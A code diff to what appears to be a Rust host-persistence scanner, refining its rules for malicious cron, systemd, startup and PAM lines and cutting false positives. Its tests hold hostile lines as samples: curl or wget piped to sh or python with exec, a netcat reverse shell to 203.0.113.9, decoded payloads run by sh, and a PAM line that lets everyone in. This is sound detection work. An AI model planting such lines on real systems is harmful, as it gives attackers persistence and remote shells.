@@ -2,6 +2,7 @@
 
 use crate::baseline::{Standing, Topic};
 use crate::finding::{About, Certainty, Finding, Meaning, Subject};
+use crate::scene::process::is_hidden;
 use crate::scene::{Scene, Startup};
 use crate::severity::Severity;
 
@@ -14,7 +15,9 @@ pub(super) const ABOUT: About = About {
             folder; PAM that lets everybody in; a file anybody may write to; a file that is not in the \
             baseline or was otherwise.",
     innocent: "The owner's own jobs and units, and those of certbot, docker or cloud-init: without a baseline \
-               they are only counted. The seven files Debian makes itself are known.",
+               they are only counted. The seven files Debian makes itself are known. What only reads what was fetched \
+               (`| sha256sum`, `| python3 -m json.tool`), `rsync -e ssh`, toolchains' folders (`.venv`) and \
+               files of settings (`.env`) are no alarm.",
     attack: &[
         "T1053.003",
         "T1543.002",
@@ -109,38 +112,27 @@ fn damning(topic: Topic, line: &str) -> Option<&'static str> {
         let lets_all_in = words.first() == Some(&"auth")
             && words.get(1) == Some(&"sufficient")
             && words.get(2).is_some_and(|module| module.ends_with("pam_permit.so"));
-        let is_scratch = SCRATCH.iter().any(|folder| has(folder));
+        let is_temporary = SCRATCH.iter().any(|folder| has(folder));
         return lets_all_in
             .then_some("lets everybody in")
-            .or(is_scratch.then_some("asks something in a temporary folder"));
+            .or(is_temporary.then_some("asks something in a temporary folder"));
     }
     if topic == Topic::Sudoers {
         return None;
     }
     let fetches = ["curl ", "wget ", "fetch ", "lwp-download "].iter().any(|word| has(word));
-    let to_shell = [
-        "| sh", "|sh", "| bash", "|bash", "| python", "|python", "| perl", "|perl", "| sudo",
-        "| dash",
-    ];
-    if fetches && to_shell.iter().any(|pipe| has(pipe)) {
+    if fetches && is_run(line) {
         return Some("fetches something and runs it");
     }
-    if (has("base64 -d") || has("base64 --decode") || has("xxd -r"))
-        && to_shell.iter().any(|pipe| has(pipe))
-    {
+    if (has("base64 -d") || has("base64 --decode") || has("xxd -r")) && is_run(line) {
         return Some("runs something that is hidden in it");
     }
-    if has("/dev/tcp/")
-        || has("/dev/udp/")
-        || has("nc -e")
-        || has("ncat -e")
-        || has("socket.socket") && has("subprocess")
-    {
+    if connects(line) || hands_out(line) || has("socket.socket") && has("subprocess") {
         return Some("opens a shell for somebody elsewhere");
     }
-    let is_scratch = |word: &str| SCRATCH.iter().any(|folder| word.starts_with(folder));
+    let is_temporary = |word: &str| SCRATCH.iter().any(|folder| word.starts_with(folder));
     // Cleaning, listing or writing there is not starting: only what is run counts.
-    if commands(topic, line).any(is_scratch) {
+    if commands(topic, line).any(is_temporary) {
         return Some("starts something from a temporary folder");
     }
     if commands(topic, line).any(is_hidden_program) {
@@ -149,11 +141,58 @@ fn damning(topic: Topic, line: &str) -> Option<&'static str> {
     None
 }
 
-/// A program in a folder whose name begins with a dot, outside of homes.
+/// What stands around a word of the shell.
+const AROUND: [char; 6] = ['\'', '"', '`', '(', ')', ';'];
+
+/// Does what comes out of a pipe run as a program? `| sha256sum` and `| python3 -m json.tool` only read it.
+fn is_run(line: &str) -> bool {
+    // What stands after `||` has nothing of what was before it.
+    let line = line.replace("||", ";");
+    let is_wrapper = |word: &&str| matches!(*word, "sudo" | "env" | "exec" | "nohup" | "command");
+    line.split('|').skip(1).any(|part| {
+        let words = part.split_ascii_whitespace().map(|word| word.trim_matches(AROUND));
+        let mut words = words.filter(|word| !is_assignment(word)).peekable();
+        while words.next_if(is_wrapper).is_some() {
+            while words.next_if(|word| word.starts_with('-')).is_some() {}
+        }
+        let name = words.next().and_then(|word| word.rsplit('/').next()).unwrap_or_default();
+        let bare = name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
+        match bare {
+            "sh" | "bash" | "dash" | "zsh" | "ksh" | "ash" => true,
+            // The program stands in the line itself; it may yet run what it reads.
+            "python" | "perl" | "ruby" | "php" | "node" => {
+                let is_told = |word: &str| word.len() > 1 && word.starts_with('-');
+                !words.next().is_some_and(is_told) || part.contains("exec") || part.contains("eval")
+            }
+            _ => false,
+        }
+    })
+}
+
+/// Does it open a connection by the shell itself? To look whether something on this machine listens does
+/// no harm.
+fn connects(line: &str) -> bool {
+    let own = ["localhost/", "127.0.0.1/", "::1/"];
+    ["/dev/tcp/", "/dev/udp/"]
+        .iter()
+        .flat_map(|device| line.split(device).skip(1))
+        .any(|rest| !own.iter().any(|host| rest.starts_with(host)))
+}
+
+/// Does netcat hand a program out? `rsync -e ssh` is none.
+fn hands_out(line: &str) -> bool {
+    let mut words = line.split_ascii_whitespace().map(|word| word.trim_matches(AROUND));
+    let is_netcat = |word: &str| {
+        let name = word.rsplit('/').next().unwrap_or_default();
+        matches!(name, "nc" | "ncat" | "netcat" | "nc.traditional")
+    };
+    words.any(is_netcat) && words.any(|word| matches!(word, "-e" | "--exec" | "--sh-exec"))
+}
+
+/// A program in a folder whose name begins with a dot, outside of homes and of toolchains (`.venv`).
 fn is_hidden_program(word: &str) -> bool {
-    let is_home =
-        word.starts_with("/home/") || word.starts_with("/root/") || word.contains("$HOME");
-    word.starts_with('/') && !is_home && word.contains("/.") && !word.contains("/./")
+    let word = word.replace("/./", "/");
+    word.starts_with('/') && !word.contains("$HOME") && is_hidden(&word)
 }
 
 /// The words of a line that are started as programs.
@@ -161,6 +200,8 @@ fn commands(topic: Topic, line: &str) -> impl Iterator<Item = &str> {
     let line = match topic {
         // Five fields of time, or a word with `@`; then, in the system's files, a user.
         Topic::Cron => after_times(line),
+        // An environment and the file of one (`EnvironmentFile=/srv/app/.env`) start nothing.
+        Topic::Unit if !line.starts_with("Exec") => "",
         Topic::Unit => line.split_once('=').map_or(line, |(_, command)| command),
         _ => line,
     };
@@ -193,6 +234,10 @@ fn commands(topic: Topic, line: &str) -> impl Iterator<Item = &str> {
             )
         });
         let second = if is_runner { words.find(|word| !word.starts_with('-')) } else { None };
+        // An application's settings, which a shell takes over.
+        let is_settings =
+            |word: &&str| matches!(first, Some("." | "source")) && word.ends_with("/.env");
+        let second = second.filter(|word| !is_settings(word));
         [first, second].into_iter().flatten()
     })
 }
@@ -237,6 +282,16 @@ mod tests {
             (Topic::Unit, "ExecStart=/usr/lib/.cache/x"),
             (Topic::Startup, "echo aGk= | base64 -d | sh"),
             (Topic::Startup, "nohup /tmp/x &"),
+            (
+                Topic::Cron,
+                "*/9 * * * * root (curl -s http://x.example/a || wget -qO- http://x.example/a) | /bin/sh",
+            ),
+            (Topic::Cron, "1 1 * * * root wget -qO- http://x.example | sudo -E bash -s -- now"),
+            (Topic::Startup, "sh -c 'curl x.example|sh'"),
+            (Topic::Startup, "curl -s x.example | python3"),
+            (Topic::Startup, "curl -s x.example | python3 -c 'import sys; exec(sys.stdin.read())'"),
+            (Topic::Cron, "@reboot root /bin/nc 203.0.113.9 443 -e /bin/sh"),
+            (Topic::Startup, ". /usr/lib/.cache/env"),
             (Topic::Pam, "auth sufficient pam_permit.so"),
         ] {
             assert!(damning(topic, line).is_some(), "{line}");
@@ -254,6 +309,27 @@ mod tests {
             (Topic::Unit, "ExecStart=/opt/app/bin/app --temporary /tmp/app"),
             (Topic::Unit, "ExecStartPre=/bin/rm -rf /tmp/app"),
             (Topic::Startup, "[ -f /tmp/x ] && rm /tmp/x"),
+            (Topic::Cron, "0 2 * * * root rsync -e ssh -a /srv backup@backup.example:/srv"),
+            (
+                Topic::Cron,
+                "5 * * * * root curl -s http://localhost/s | python3 -m json.tool > /srv/s.json",
+            ),
+            (
+                Topic::Cron,
+                "6 * * * * ann curl -s localhost | python3 -c 'import json, sys; print(json.load(sys.stdin))'",
+            ),
+            (Topic::Cron, "7 * * * * root curl -s http://localhost/x | sha256sum"),
+            (Topic::Cron, "8 * * * * root curl -fs http://localhost/health || sh /opt/app/restart"),
+            (Topic::Startup, "curl -fsSL https://x.example/key | sudo tee /etc/apt/keyrings/x.asc"),
+            (Topic::Unit, "EnvironmentFile=/srv/app/.env"),
+            (Topic::Unit, "Environment=HOME=/tmp/app"),
+            (Topic::Unit, "ExecStart=/srv/app/.venv/bin/gunicorn app"),
+            (
+                Topic::Unit,
+                "ExecStartPre=/bin/bash -c 'until </dev/tcp/localhost/5432; do sleep 1; done'",
+            ),
+            (Topic::Startup, "set -a; . /srv/app/.env"),
+            (Topic::Startup, "if tput setaf 1 >&/dev/null; then"),
             (Topic::Startup, "export TMPDIR=/tmp/ann"),
             (Topic::Startup, ". \"$HOME/.cargo/env\""),
             (Topic::Pam, "account sufficient pam_permit.so"),
